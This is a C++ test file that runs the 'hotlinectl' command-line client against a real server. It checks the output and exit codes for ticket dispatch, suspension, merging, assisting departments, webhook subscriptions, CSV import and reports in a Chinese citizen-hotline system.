// hotlinectl as a person uses it: the built binary against the real server
// binary, checking what it prints and its exit codes.
#include <sys/wait.h>

#include <algorithm>
#include <cstdlib>
#include <fstream>
#include <map>
#include <sstream>
#include <string>
#include <vector>

#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_join.h"
#include "absl/strings/str_split.h"
#include "absl/time/time.h"
#include "gtest/gtest.h"
#include "tests/support/postgres_support.h"
#include "tests/support/programs.h"
#include "tests/support/test_support.h"

namespace hotline {
namespace {

using testing::ServerProcess;
using testing::TempDir;

using CliRun = testing::ProgramRun;

class CliTest : public ::testing::Test {
 protected:
  void SetUp() override {
    // A PostgreSQL database when the tests run there (pg.CliTest.*).
    db_ = TestsUsePostgres() ? NewPostgresDatabase() : dir_.File("hotline.db");
    bureau_token_ = testing::BootstrapToken(db_, "bureau");
    server_ = std::make_unique<ServerProcess>(db_);
  }

  CliRun Cli(const std::vector<std::string>& args,
             const std::string& token = "") {
    return testing::RunCli(HOTLINE_CLI_BINARY, server_->address(),
                           token.empty() ? bureau_token_ : token, args, dir_);
  }

  TempDir dir_;
  std::string db_;
  std::string bureau_token_;
  std::unique_ptr<ServerProcess> server_;
};

// One cell of `report --format csv`: the row whose key (second field) is
// `key` ("all tickets", "departments/housing"), the column named `column`
// in the header.
std::string CsvCell(const std::string& csv, const std::string& key,
                    const std::string& column) {
  std::vector<std::string> lines = absl::StrSplit(csv, '\n');
  if (lines.empty()) return "?";
  std::vector<std::string> header = absl::StrSplit(lines[0], ',');
  const auto at = std::find(header.begin(), header.end(), column);
  if (at == header.end()) return "no column " + column;
  for (const std::string& line : lines) {
    std::vector<std::string> cells = absl::StrSplit(line, ',');
    if (cells.size() == header.size() && cells[1] == key) {
      return cells[at - header.begin()];
    }
  }
  return "no row " + key;
}

// The token secret `token create --json` printed.
std::string SecretOf(const CliRun& token) {
  const size_t at = token.out.find("\"secret\": \"");
  if (at == std::string::npos) return "";
  return token.out.substr(at + 11, token.out.find('"', at + 11) - at - 11);
}

TEST_F(CliTest, ANewcomersFirstSession) {
  CliRun made = Cli({"department", "create", "housing", "--display_name",
                     "县住房和城乡建设局"});
  ASSERT_EQ(made.exit_code, 0) << made.err;
  EXPECT_TRUE(absl::StrContains(made.out, "departments/housing"));
  CliRun shown = Cli({"department", "get", "housing"});
  EXPECT_TRUE(absl::StrContains(shown.out, "display_name: 县住房和城乡建设局"))
      << shown.out << shown.err;

  CliRun token = Cli({"token", "create", "department/housing", "--json"});
  ASSERT_EQ(token.exit_code, 0) << token.err;
  const size_t at = token.out.find("\"secret\": \"");
  ASSERT_NE(at, std::string::npos) << token.out;
  const std::string secret =
      token.out.substr(at + 11, token.out.find('"', at + 11) - at - 11);

  // The city platform's link creates its tickets with its own token.
  CliRun intake = Cli({"token", "create", "intake/city-platform", "--json"});
  ASSERT_EQ(intake.exit_code, 0) << intake.err;
  const size_t intake_at = intake.out.find("\"secret\": \"");
  ASSERT_NE(intake_at, std::string::npos) << intake.out;
  const std::string intake_secret = intake.out.substr(
      intake_at + 11, intake.out.find('"', intake_at + 11) - intake_at - 11);
  CliRun created =
      Cli({"ticket", "create", "--type", "complaint", "--topic", "噪音",
           "--title", "工地夜间施工", "--content", "每晚十点后仍在施工",
           "--caller", "张三", "--phone", "13800000000", "--source_id",
           "SZ2021021000001", "--dispatch_to", "housing"},
          intake_secret);
  ASSERT_EQ(created.exit_code, 0) << created.err;
  EXPECT_TRUE(absl::StrContains(created.out, "state:        DISPATCHED"))
      << created.out;
  CliRun history = Cli({"ticket", "events", "1"});
  EXPECT_TRUE(absl::StrContains(history.out, "intake/city-platform"))
      << history.out;

  CliRun listed = Cli({"ticket", "list"}, secret);
  ASSERT_EQ(listed.exit_code, 0) << listed.err;
  EXPECT_TRUE(absl::StartsWith(listed.out, "TICKET")) << listed.out;
  EXPECT_TRUE(absl::StrContains(listed.out, "tickets/1"));
  EXPECT_TRUE(absl::StrContains(listed.out, "噪音"));

  CliRun acked = Cli({"ticket", "ack", "1"}, secret);
  EXPECT_EQ(acked.exit_code, 0) << acked.err;
  CliRun events = Cli({"ticket", "events", "tickets/1"});
  EXPECT_TRUE(absl::StrContains(events.out, "ACKNOWLEDGED")) << events.out;
  EXPECT_TRUE(absl::StrContains(events.out, "department/housing"));

  // The sample export the README imports: four rows for housing, two for
  // the bureau to dispatch.
  CliRun imported =
      Cli({"import", HOTLINE_EXAMPLES_DIR "/platform-export.csv"});
  ASSERT_EQ(imported.exit_code, 0) << imported.err;
  EXPECT_TRUE(absl::StrContains(imported.out,
                                "imported 6 new ticket(s), 0 already present, "
                                "0 row(s) failed, of 6"))
      << imported.out;

  // The report: this month by default; a department gets its own figures.
  CliRun mine = Cli({"report", "--format", "csv"}, secret);
  ASSERT_EQ(mine.exit_code, 0) << mine.err;
  EXPECT_TRUE(absl::StrContains(mine.out, "\ntotal,housing,5,5,0,0,5,0,0,0,"))
      << mine.out;
  CliRun all = Cli({"report", "--format", "zh"});
  ASSERT_EQ(all.exit_code, 0) << all.err;
  EXPECT_TRUE(absl::StrContains(
      all.out, ",收到市12345投诉举报平台转派工单7件,黄牌0件,红牌0件,"))
      << all.out;
  EXPECT_TRUE(absl::StrContains(all.out, "已转相关职能部门调处5件")) << all.out;
  CliRun year = Cli({"report", "--year", "2021", "--format", "zh"});
  EXPECT_TRUE(absl::StartsWith(
      year.out,
      "2021年1月1日至2021年12月31日,收到市12345投诉举报平台转派工单0件"))
      << year.out;
}

// The bureau refuses a return (不当退单); housing asks for a suspension
// (挂起), the bureau approves it, housing resumes; housing replies and gives
// a final answer (最终答复), the bureau approves it and closes the caller's
// next ticket with it: all from the command line, as docs/workflow.md
// shows.
// Notifications (通知订阅) from the command line: each subcommand, its
// output, and the refusals (the server's, and a person's mistakes caught
// before the call).
TEST_F(CliTest, SubscriptionStepsFromTheCommandLine) {
  ASSERT_EQ(
      Cli({"department", "create", "housing", "--display_name", "x"}).exit_code,
      0);
  CliRun made =
      Cli({"subscription", "create", "--url", "https://receiver.invalid/hook",
           "--department", "housing", "--events", "dispatched,card_issued"});
  ASSERT_EQ(made.exit_code, 0) << made.err;
  EXPECT_TRUE(absl::StrContains(made.out, "subscriptions/1")) << made.out;
  EXPECT_TRUE(absl::StrContains(made.out, "secret:")) << made.out;
  EXPECT_TRUE(absl::StrContains(made.out, "whsec_")) << made.out;
  EXPECT_TRUE(absl::StrContains(made.out, "DISPATCHED,CARD_ISSUED"))
      << made.out;

  CliRun refused = Cli({"subscription", "create", "--url",
                        "http://example.org/hook", "--department", "housing"});
  EXPECT_NE(refused.exit_code, 0);
  EXPECT_TRUE(absl::StrContains(refused.err, "SUBSCRIPTION_URL"))
      << refused.err;
  CliRun both = Cli({"subscription", "create", "--url", "https://a/b", "--sms",
                     "13800000000"});
  EXPECT_NE(both.exit_code, 0);
  EXPECT_TRUE(absl::StrContains(both.err, "one of them")) << both.err;
  CliRun unknown = Cli({"subscription", "create", "--url", "https://a/b",
                        "--events", "dispatched,nosuch"});
  EXPECT_NE(unknown.exit_code, 0);
  EXPECT_TRUE(absl::StrContains(unknown.err, "nosuch")) << unknown.err;

  CliRun listed = Cli({"subscription", "list"});
  ASSERT_EQ(listed.exit_code, 0) << listed.err;
  EXPECT_TRUE(absl::StrContains(listed.out, "subscriptions/1")) << listed.out;
  EXPECT_TRUE(absl::StrContains(listed.out, "ACTIVE")) << listed.out;
  EXPECT_FALSE(absl::StrContains(listed.out, "whsec_")) << listed.out;

  CliRun paused =
      Cli({"subscription", "pause", "1", "--reason", "接收系统停机维护"});
  ASSERT_EQ(paused.exit_code, 0) << paused.err;
  EXPECT_TRUE(absl::StrContains(paused.out, "PAUSED (接收系统停机维护)"))
      << paused.out;
  CliRun resumed = Cli({"subscription", "resume", "1"});
  ASSERT_EQ(resumed.exit_code, 0) << resumed.err;
  EXPECT_TRUE(absl::StrContains(resumed.out, "ACTIVE")) << resumed.out;
  CliRun rotated =
      Cli({"subscription", "rotate-secret", "1", "--overlap", "2h"});
  ASSERT_EQ(rotated.exit_code, 0) << rotated.err;
  EXPECT_TRUE(absl::StrContains(rotated.out, "whsec_")) << rotated.out;
  EXPECT_TRUE(absl::StrContains(rotated.out, "previous secret signs until"))
      << rotated.out;
  CliRun log = Cli({"subscription", "deliveries", "1", "--dead"});
  ASSERT_EQ(log.exit_code, 0) << log.err;
  EXPECT_TRUE(absl::StrContains(log.out, "SEQ")) << log.out;
  CliRun nothing = Cli({"subscription", "redeliver", "1", "--seq", "999"});
  EXPECT_NE(nothing.exit_code, 0);
  EXPECT_TRUE(absl::StrContains(nothing.err, "NOT_FOUND")) << nothing.err;
  ASSERT_EQ(Cli({"subscription", "delete", "1"}).exit_code, 0);
  CliRun gone = Cli({"subscription", "show", "1"});
  EXPECT_NE(gone.exit_code, 0);
  EXPECT_TRUE(absl::StrContains(gone.err, "does not exist")) << gone.err;
}

TEST_F(CliTest, ReviewStepsFromTheCommandLine) {
  ASSERT_EQ(
      Cli({"department", "create", "housing", "--display_name", "x"}).exit_code,
      0);
  CliRun token = Cli({"token", "create", "department/housing", "--json"});
  const size_t at = token.out.find("\"secret\": \"");
  ASSERT_NE(at, std::string::npos) << token.out;
  const std::string housing =
      token.out.substr(at + 11, token.out.find('"', at + 11) - at - 11);
  ASSERT_EQ(Cli({"ticket", "create", "--type", "complaint", "--topic", "违建",
                 "--title", "t", "--content", "c", "--phone", "13800000000",
                 "--dispatch_to", "housing"})
                .exit_code,
            0);
  ASSERT_EQ(Cli({"ticket", "ack", "1"}, housing).exit_code, 0);
  ASSERT_EQ(Cli({"ticket", "return", "1", "--reason", "属于规划部门"}, housing)
                .exit_code,
            0);
  CliRun refused =
      Cli({"ticket", "refuse-return", "1", "--reason", "属于本单位职责"});
  ASSERT_EQ(refused.exit_code, 0) << refused.err;
  EXPECT_TRUE(absl::StrContains(refused.out, "IN_PROGRESS")) << refused.out;

  // A month from now (the server runs on the real clock).
  const std::string until =
      absl::FormatTime(absl::RFC3339_sec, absl::Now() + absl::Hours(24 * 30),
                       absl::UTCTimeZone());
  CliRun too_far = Cli({"ticket", "suspend", "1", "--until",
                        "2099-01-01T00:00:00Z", "--reason", "等待法院判决"},
                       housing);
  EXPECT_EQ(too_far.exit_code, 5);
  EXPECT_TRUE(absl::StrContains(too_far.err, "SUSPENSION_TOO_LONG"))
      << too_far.err;
  CliRun asked = Cli(
      {"ticket", "suspend", "1", "--until", until, "--reason", "等待法院判决"},
      housing);
  ASSERT_EQ(asked.exit_code, 0) << asked.err;
  CliRun approved = Cli({"ticket", "approve-suspension", "1"});
  ASSERT_EQ(approved.exit_code, 0) << approved.err;
  EXPECT_TRUE(absl::StrContains(approved.out, "SUSPENDED")) << approved.out;
  CliRun listed =
      Cli({"ticket", "list", "--filter", "state = SUSPENDED"}, housing);
  EXPECT_TRUE(absl::StrContains(listed.out, "tickets/1")) << listed.out;
  CliRun resumed =
      Cli({"ticket", "resume", "1", "--note", "判决已下达"}, housing);
  ASSERT_EQ(resumed.exit_code, 0) << resumed.err;
  EXPECT_TRUE(absl::StrContains(resumed.out, "IN_PROGRESS")) << resumed.out;
  ASSERT_EQ(Cli({"ticket", "reply", "1", "--outcome", "explained", "--text",
                 "已答复"},
                housing)
                .exit_code,
            0);
  CliRun given = Cli({"ticket", "final-answer", "1", "--answer",
                      "该诉求已依法答复完毕", "--basis", "《信访工作条例》"},
                     housing);
  ASSERT_EQ(given.exit_code, 0) << given.err;
  EXPECT_TRUE(absl::StrContains(given.out, "PENDING")) << given.out;
  ASSERT_EQ(Cli({"ticket", "approve-final-answer", "1"}).exit_code, 0);
  ASSERT_EQ(
      Cli({"ticket", "create", "--type", "complaint", "--topic", "违建",
           "--title", "t", "--content", "again", "--phone", "13800000000"})
          .exit_code,
      0);
  CliRun closed =
      Cli({"ticket", "close-by-final-answer", "2", "--answered_by", "1"});
  ASSERT_EQ(closed.exit_code, 0) << closed.err;
  EXPECT_TRUE(absl::StrContains(closed.out, "closed by final answer of"))
      << closed.out;
  CliRun events = Cli({"ticket", "events", "1"});
  for (const char* type :
       {"RETURN_REFUSED", "SUSPENSION_REQUESTED", "SUSPENSION_APPROVED",
        "RESUMED", "FINAL_ANSWER_SUBMITTED", "FINAL_ANSWER_APPROVED"}) {
    EXPECT_TRUE(absl::StrContains(events.out, type)) << type << events.out;
  }
  // The CSV's last four columns: suspended, refused returns, closed by
  // final answer, merged.
  CliRun csv = Cli({"report", "--format", "csv"});
  ASSERT_EQ(csv.exit_code, 0) << csv.err;
  EXPECT_TRUE(absl::StrContains(
      csv.out, ",suspended,refused_returns,closed_by_final_answer,merged,"))
      << csv.out;
  EXPECT_TRUE(absl::StrContains(csv.out, "\ntotal,all tickets,2,")) << csv.out;
  const std::vector<std::pair<std::string, std::string>> expected = {
      {"suspended", "0"},
      {"refused_returns", "1"},
      {"closed_by_final_answer", "0"},
      {"merged", "0"}};
  for (const auto& [column, value] : expected) {
    EXPECT_EQ(CsvCell(csv.out, "departments/housing", column), value)
        << column << "\n"
        << csv.out;
  }
  EXPECT_EQ(CsvCell(csv.out, "all tickets", "refused_returns"), "1");
  EXPECT_EQ(CsvCell(csv.out, "all tickets", "closed_by_final_answer"), "1");
  EXPECT_EQ(CsvCell(csv.out, "all tickets", "merged"), "0");
}

// Merged duplicates (并单), their suggestions and links from the command
// line: two more calls about the same building.
TEST_F(CliTest, MergeStepsFromTheCommandLine) {
  for (const char* title : {"楼道堆物", "楼道堆物, 再次来电"}) {
    ASSERT_EQ(Cli({"ticket", "create", "--type", "complaint", "--topic", "消防",
                   "--title", title, "--content", "堵塞通道", "--phone",
                   "13900000001"})
                  .exit_code,
              0);
  }
  CliRun duplicates = Cli({"ticket", "duplicates", "2"});
  ASSERT_EQ(duplicates.exit_code, 0) << duplicates.err;
  EXPECT_TRUE(absl::StrContains(duplicates.out, "tickets/1: phone, topic"))
      << duplicates.out;
  CliRun merged =
      Cli({"ticket", "merge", "2", "--into", "1", "--reason", "重复来电"});
  ASSERT_EQ(merged.exit_code, 0) << merged.err;
  EXPECT_TRUE(absl::StrContains(merged.out, "MERGED")) << merged.out;
  EXPECT_TRUE(absl::StrContains(merged.out, "tickets/1 (重复来电)"))
      << merged.out;
  CliRun main = Cli({"ticket", "get", "1"});
  EXPECT_TRUE(absl::StrContains(main.out, "tickets/2 (13900000001)"))
      << main.out;
  CliRun csv = Cli({"report", "--format", "csv"});
  EXPECT_EQ(CsvCell(csv.out, "all tickets", "merged"), "1") << csv.out;
  // Into itself: refused naming the field, nothing changed.
  CliRun itself = Cli({"ticket", "merge", "1", "--into", "1", "--reason", "x"});
  EXPECT_NE(itself.exit_code, 0);
  EXPECT_TRUE(absl::StrContains(itself.err, "main_ticket")) << itself.err;
  CliRun unmerged = Cli({"ticket", "unmerge", "2", "--reason", "诉求不同"});
  ASSERT_EQ(unmerged.exit_code, 0) << unmerged.err;
  EXPECT_TRUE(absl::StrContains(unmerged.out, "RECEIVED")) << unmerged.out;
  CliRun linked =
      Cli({"ticket", "link", "2", "--to", "1", "--reason", "同一楼栋"});
  ASSERT_EQ(linked.exit_code, 0) << linked.err;
  EXPECT_TRUE(absl::StrContains(Cli({"ticket", "get", "1"}).out,
                                "tickets/2 (同一楼栋)"));
  ASSERT_EQ(Cli({"ticket", "unlink", "2", "--from", "1"}).exit_code, 0);
  CliRun events = Cli({"ticket", "events", "2"});
  for (const char* type : {"MERGED", "UNMERGED", "LINKED", "UNLINKED"}) {
    EXPECT_TRUE(absl::StrContains(events.out, type)) << type << events.out;
  }
}

TEST_F(CliTest, AssistingStepsFromTheCommandLine) {
  for (const char* id : {"housing", "transport"}) {
    ASSERT_EQ(Cli({"department", "create", id, "--display_name", id}).exit_code,
              0);
  }
  const std::string housing =
      SecretOf(Cli({"token", "create", "department/housing", "--json"}));
  const std::string transport =
      SecretOf(Cli({"token", "create", "department/transport", "--json"}));
  ASSERT_FALSE(transport.empty());
  CliRun created = Cli({"ticket", "create", "--type", "complaint", "--topic",
                        "噪音", "--title", "夜间施工", "--content", "占道施工",
                        "--dispatch_to", "housing", "--assist", "transport"});
  ASSERT_EQ(created.exit_code, 0) << created.err;
  EXPECT_TRUE(absl::StrContains(created.out, "transport DISPATCHED"))
      << created.out;
  // The lead is never its own assistant; nothing is created.
  CliRun lead_too = Cli({"ticket", "create", "--type", "complaint", "--topic",
                         "噪音", "--title", "t", "--content", "c",
                         "--dispatch_to", "housing", "--assist", "housing"});
  EXPECT_EQ(lead_too.exit_code, 5) << lead_too.err;
  EXPECT_TRUE(absl::StrContains(lead_too.err, "ASSIST_IS_LEAD"))
      << lead_too.err;
  // Transport lists what it assists, signs for it and gives its opinion.
  CliRun assisted = Cli(
      {"ticket", "list", "--filter", "assisting = \"departments/transport\""},
      transport);
  EXPECT_TRUE(absl::StrContains(assisted.out, "tickets/1")) << assisted.out;
  ASSERT_EQ(Cli({"ticket", "assist-ack", "1"}, transport).exit_code, 0);
  CliRun opinion = Cli(
      {"ticket", "assist-opinion", "1", "--text", "已安排夜间巡查"}, transport);
  ASSERT_EQ(opinion.exit_code, 0) << opinion.err;
  EXPECT_TRUE(
      absl::StrContains(opinion.out, "transport OPINION_GIVEN: 已安排夜间巡查"))
      << opinion.out;
  // The bureau adds market; the lead's reply then needs a reason.
  ASSERT_EQ(
      Cli({"department", "create", "market", "--display_name", "m"}).exit_code,
      0);
  ASSERT_EQ(Cli({"ticket", "add-assist", "1", "market", "--note", "占道经营"})
                .exit_code,
            0);
  ASSERT_EQ(Cli({"ticket", "ack", "1"}, housing).exit_code, 0);
  CliRun early =
      Cli({"ticket", "reply", "1", "--outcome", "resolved", "--text", "已处理"},
          housing);
  EXPECT_EQ(early.exit_code, 5) << early.err;
  EXPECT_TRUE(absl::StrContains(early.err, "OPINIONS_MISSING")) << early.err;
  CliRun replied =
      Cli({"ticket", "reply", "1", "--outcome", "resolved", "--text", "已处理",
           "--missing_opinions_reason", "市场监管局未反馈"},
          housing);
  ASSERT_EQ(replied.exit_code, 0) << replied.err;
  EXPECT_TRUE(absl::StrContains(replied.out, "市场监管局未反馈"))
      << replied.out;
  CliRun removed =
      Cli({"ticket", "remove-assist", "1", "market", "--reason", "未参与办理"});
  ASSERT_EQ(removed.exit_code, 0) << removed.err;
  EXPECT_TRUE(absl::StrContains(removed.out, "market REMOVED: 未参与办理"))
      << removed.out;
  CliRun events = Cli({"ticket", "events", "1"});
  for (const char* type : {"ASSIST_ACKNOWLEDGED", "ASSIST_OPINION",
                           "ASSIST_ADDED", "ASSIST_REMOVED"}) {
    EXPECT_TRUE(absl::StrContains(events.out, type)) << type << events.out;
  }
  // The figures: one part for transport, its opinion on time.
  CliRun csv = Cli({"report", "--format", "csv"});
  EXPECT_EQ(CsvCell(csv.out, "departments/transport", "assists"), "1")
      << csv.out;
  EXPECT_EQ(
      CsvCell(csv.out, "departments/transport", "assist_on_time_rate_percent"),
      "100.0")
      << csv.out;
  EXPECT_EQ(CsvCell(csv.out, "departments/housing", "received"), "1")
      << csv.out;
  EXPECT_EQ(CsvCell(csv.out, "departments/housing", "assists"), "0") << csv.out;
  CliRun zh = Cli({"report", "--format", "zh"});
  EXPECT_TRUE(absl::StrContains(zh.out, ",协办1件,协办按时反馈率100.0%。"))
      << zh.out;
}

TEST_F(CliTest, EachFailureKindHasItsExitCode) {
  ASSERT_EQ(
      Cli({"department", "create", "housing", "--display_name", "x"}).exit_code,
      0);
  CliRun token = Cli({"token", "create", "department/housing", "--json"});
  const size_t at = token.out.find("\"secret\": \"");
  const std::string secret =
      token.out.substr(at + 11, token.out.find('"', at + 11) - at - 11);
  ASSERT_EQ(Cli({"ticket", "create", "--type", "help", "--topic", "t",
                 "--title", "t", "--content", "c"})
                .exit_code,
            0);

  CliRun missing = Cli({"ticket", "get", "99"});
  EXPECT_EQ(missing.exit_code, 4);
  EXPECT_EQ(missing.err,
            "hotlinectl: NOT_FOUND: ticket tickets/99 does not exist "
            "(reason NOT_FOUND; resource=tickets/99)\n");
  CliRun denied =
      Cli({"ticket", "close", "1", "--satisfaction", "satisfied"}, secret);
  EXPECT_EQ(denied.exit_code, 3);
  EXPECT_TRUE(absl::StrContains(denied.err, "PERMISSION_DENIED")) << denied.err;
  CliRun two_periods = Cli({"report", "--year", "2021", "--month", "2021-02"});
  EXPECT_EQ(two_periods.exit_code, 2);
  EXPECT_TRUE(absl::StrContains(two_periods.err, "not several"))
      << two_periods.err;
  EXPECT_EQ(Cli({"report", "--format", "pdf"}).exit_code, 2);
  EXPECT_EQ(Cli({"report", "--from", "2021-03-01"}).exit_code, 2);
  CliRun backwards =
      Cli({"report", "--from", "2021-03-01", "--to", "2021-02-01"});
  EXPECT_EQ(backwards.exit_code, 5);
  EXPECT_EQ(backwards.err,
            "hotlinectl: INVALID_ARGUMENT: to_date 2021-02-01 must be after "
            "from_date 2021-03-01 (the period is [from_date, to_date): "
            "to_date is not counted) (reason INVALID_FIELD; field to_date)\n");
  CliRun others = Cli({"report", "--department", "market"}, secret);
  EXPECT_EQ(others.exit_code, 3) << others.err;
  CliRun refused = Cli({"ticket", "ack", "1"});
  EXPECT_EQ(refused.exit_code, 5);
  EXPECT_TRUE(absl::StrContains(refused.err, "FAILED_PRECONDITION"));
  CliRun usage = Cli({"ticket", "get"});
  EXPECT_EQ(usage.exit_code, 2);
  EXPECT_TRUE(absl::StrContains(usage.err, "usage: hotlinectl ticket get"));
  EXPECT_EQ(Cli({"ticket", "list", "--colour", "red"}).exit_code, 2);
  EXPECT_EQ(Cli({"frobnicate"}).exit_code, 2);
  CliRun bad_type = Cli({"ticket", "create", "--type", "praise", "--topic", "t",
                         "--title", "t", "--content", "c"});
  EXPECT_EQ(bad_type.exit_code, 2) << bad_type.err;
  CliRun unauthenticated = Cli({"ticket", "list"}, "hl_wrong");
  EXPECT_EQ(unauthenticated.exit_code, 3);
  CliRun unreachable =
      Cli({"--server", "127.0.0.1:1", "--timeout", "2", "ticket", "list"});
  EXPECT_EQ(unreachable.exit_code, 6) << unreachable.err;
  CliRun help = Cli({"ticket", "create", "--help"});
  EXPECT_EQ(help.exit_code, 0);
  EXPECT_TRUE(absl::StrContains(help.out, "Example:"));
}

TEST_F(CliTest, ImportIsIdempotentAndReportsBadRows) {
  ASSERT_EQ(
      Cli({"department", "create", "housing", "--display_name", "x"}).exit_code,
      0);
  const std::string csv = dir_.File("export.csv");
  std::ofstream(csv)
      << "\xEF\xBB\xBF"  // the platform's export starts with a BOM
      << "source_id,received_at,type,topic,urgency,title,content,address,"
         "caller,phone,confidential,department\n"
      << "SZ001,2021-02-10 09:30,投诉,噪音,,夜间施工,\"十点后施工, "
         "很吵\",建设路,"
         "张三,13800000000,否,housing\n"
      << "SZ002,2021-02-10T10:00:00+08:00,COMPLAINT,垃圾,紧急,垃圾未清运,"
         "\"三天未清运\n气味很大\",,,,是,\n"
      << "SZ003,,咨询,社保,,社保卡补办,如何补办,,,,,\n"
      << "SZ001,2021-02-10 09:30,投诉,噪音,,夜间施工,重复导出,,,,,\n"
      << "SZ004,,表扬,其他,,表扬信,感谢,,,,,\n"
      << "SZ005,,建议,交通,,,缺标题,,,,,\n";
  CliRun first = Cli({"import", csv});
  EXPECT_EQ(first.exit_code, 5) << first.err;
  EXPECT_EQ(first.out,
            "imported 3 new ticket(s), 1 already present, 2 row(s) failed, of "
            "6\n");
  // Lines count from the header (1); the quoted newline makes SZ002 two.
  EXPECT_TRUE(absl::StrContains(first.err, "line 7: type \"表扬\""))
      << first.err;
  EXPECT_TRUE(absl::StrContains(first.err,
                                "line 8: INVALID_ARGUMENT: "
                                "ticket.title is required"))
      << first.err;
  CliRun again = Cli({"import", csv});
  EXPECT_EQ(again.out,
            "imported 0 new ticket(s), 4 already present, 2 row(s) failed, of "
            "6\n");
  // A row imported before is no failure: only the two bad rows are told.
  EXPECT_FALSE(absl::StrContains(again.err, "ALREADY_EXISTS")) << again.err;
  EXPECT_FALSE(absl::StrContains(first.err, "ALREADY_EXISTS")) << first.err;
  CliRun listed = Cli({"ticket", "list", "--json"});
  // Three tickets, SZ001-SZ003, none twice.
  size_t tickets = 0;
  for (size_t at = listed.out.find("\"name\": \"tickets/");
       at != std::string::npos;
       at = listed.out.find("\"name\": \"tickets/", at + 1)) {
    ++tickets;
  }
  EXPECT_EQ(tickets, 3u) << listed.out;
  EXPECT_TRUE(absl::StrContains(listed.out, "\"source_id\": \"SZ003\""));
  EXPECT_TRUE(absl::StrContains(listed.out, "十点后施工, 很吵"));
  EXPECT_TRUE(absl::StrContains(listed.out, "三天未清运\\n气味很大"));
  CliRun first_ticket = Cli({"ticket", "get", "1"});
  EXPECT_TRUE(
      absl::StrContains(first_ticket.out, "received:     2021-02-10 09:30"))
      << first_ticket.out;
  EXPECT_TRUE(
      absl::StrContains(first_ticket.out, "department:   departments/housing"));
}

TEST_F(CliTest, ARefusalPrintsItsReasonAndMetadataAndKeepsItsExitCode) {
  ASSERT_EQ(Cli({"ticket", "create", "--type", "help", "--topic", "t",
                 "--title", "t", "--content", "c"})
                .exit_code,
            0);
  CliRun refused = Cli({"ticket", "close", "1", "--satisfaction", "satisfied"});
  EXPECT_EQ(refused.exit_code, 5);
  EXPECT_EQ(refused.err,
            "hotlinectl: FAILED_PRECONDITION: tickets/1 is RECEIVED; "
            "CloseTicket needs it to be REPLIED (reason TICKET_STATE; "
            "ticket=tickets/1 state=RECEIVED allowed_states=REPLIED "
            "method=CloseTicket)\n");
  CliRun nowhere = Cli({"ticket", "dispatch", "1", "housing"});
  EXPECT_EQ(nowhere.exit_code, 4);
  EXPECT_TRUE(absl::StrContains(
      nowhere.err, "(reason NOT_FOUND; resource=departments/housing)\n"))
      << nowhere.err;
  ASSERT_EQ(
      Cli({"department", "create", "housing", "--display_name", "x"}).exit_code,
      0);
  CliRun stale = Cli({"ticket", "dispatch", "1", "housing", "--etag", "stale"});
  EXPECT_EQ(stale.exit_code, 5) << stale.err;
  EXPECT_TRUE(absl::StrContains(stale.err,
                                "(reason ETAG_MISMATCH; "
                                "ticket=tickets/1 etag=stale "
                                "current_etag="))
      << stale.err;
  CliRun untitled = Cli({"ticket", "create", "--type", "help", "--topic", "t",
                         "--title", " ", "--content", "c"});
  EXPECT_EQ(untitled.exit_code, 5);
  EXPECT_EQ(untitled.err,
            "hotlinectl: INVALID_ARGUMENT: ticket.title is required "
            "(reason INVALID_FIELD; field ticket.title)\n");
}

TEST_F(CliTest, VersionAndHelpAnswerLikeAnyCommandLineTool) {
  CliRun version = Cli({"--version"});
  EXPECT_EQ(version.exit_code, 0) << version.err;
  ASSERT_TRUE(absl::StartsWith(version.out, "hotlinectl ")) << version.out;
  const std::string number = version.out.substr(11);
  EXPECT_FALSE(number.empty());
  EXPECT_EQ(number.find_first_not_of("0123456789.\n"), std::string::npos)
      << version.out;
  EXPECT_TRUE(absl::EndsWith(version.out, "\n"));

  // The overview: one line per command with what it does.
  for (const std::vector<std::string>& ask :
       std::vector<std::vector<std::string>>{{"help"}, {"-h"}, {"--help"}}) {
    CliRun overview = Cli(ask);
    EXPECT_EQ(overview.exit_code, 0) << ask[0] << overview.err;
    EXPECT_TRUE(absl::StrContains(overview.out, "Commands:\n")) << overview.out;
    EXPECT_TRUE(absl::StrContains(overview.out, "--version")) << overview.out;
    std::map<std::string, std::string> summaries;  // command -> its line
    for (absl::string_view line : absl::StrSplit(overview.out, '\n')) {
      for (const char* command :
           {"ticket list", "ticket ack", "import", "report", "health"}) {
        if (absl::StartsWith(line, absl::StrCat("  ", command, " "))) {
          summaries[command] = std::string(line);
        }
      }
    }
    EXPECT_TRUE(absl::StrContains(summaries["ticket list"],
                                  "list the tickets you may see"))
        << overview.out;
    EXPECT_TRUE(absl::StrContains(summaries["ticket ack"],
                                  "sign for (签收) a dispatched ticket"))
        << overview.out;
    EXPECT_TRUE(absl::StrContains(summaries["import"], "CSV export"))
        << overview.out;
    EXPECT_TRUE(absl::StrContains(summaries["report"], "figures"))
        << overview.out;
    EXPECT_TRUE(absl::StrContains(summaries["health"], "server answers"))
        << overview.out;
  }
  CliRun nothing = Cli({});
  EXPECT_EQ(nothing.exit_code, 2);
  EXPECT_TRUE(absl::StrContains(nothing.err, "Commands:")) << nothing.err;

  // One command: `help ticket list` = `ticket list --help` = `ticket list -h`.
  for (const std::vector<std::string>& ask :
       std::vector<std::vector<std::string>>{{"help", "ticket", "list"},
                                             {"ticket", "list", "--help"},
                                             {"ticket", "list", "-h"}}) {
    CliRun help = Cli(ask);
    EXPECT_EQ(help.exit_code, 0) << absl::StrJoin(ask, " ") << help.err;
    EXPECT_TRUE(absl::StartsWith(help.out, "usage: hotlinectl ticket list "))
        << absl::StrJoin(ask, " ") << ": " << help.out;
    EXPECT_TRUE(absl::StrContains(help.out, "Example:")) << help.out;
  }
  // A group: its commands.
  for (const std::vector<std::string>& ask :
       std::vector<std::vector<std::string>>{
           {"ticket", "--help"}, {"help", "ticket"}, {"ticket", "-h"}}) {
    CliRun group = Cli(ask);
    EXPECT_EQ(group.exit_code, 0) << absl::StrJoin(ask, " ") << group.err;
    EXPECT_TRUE(absl::StrContains(group.out, "  ticket create ")) << group.out;
    EXPECT_TRUE(absl::StrContains(group.out, "  ticket events ")) << group.out;
    EXPECT_FALSE(absl::StrContains(group.out, "department create"))
        << group.out;
  }
  CliRun bare_group = Cli({"ticket"});
  EXPECT_EQ(bare_group.exit_code, 2);
  EXPECT_TRUE(absl::StrContains(bare_group.err, "\"ticket\" needs a command"))
      << bare_group.err;
  CliRun unknown = Cli({"ticket", "frob"});
  EXPECT_EQ(unknown.exit_code, 2);
  EXPECT_EQ(unknown.err,
            "hotlinectl: unknown command \"ticket frob\"; `hotlinectl help "
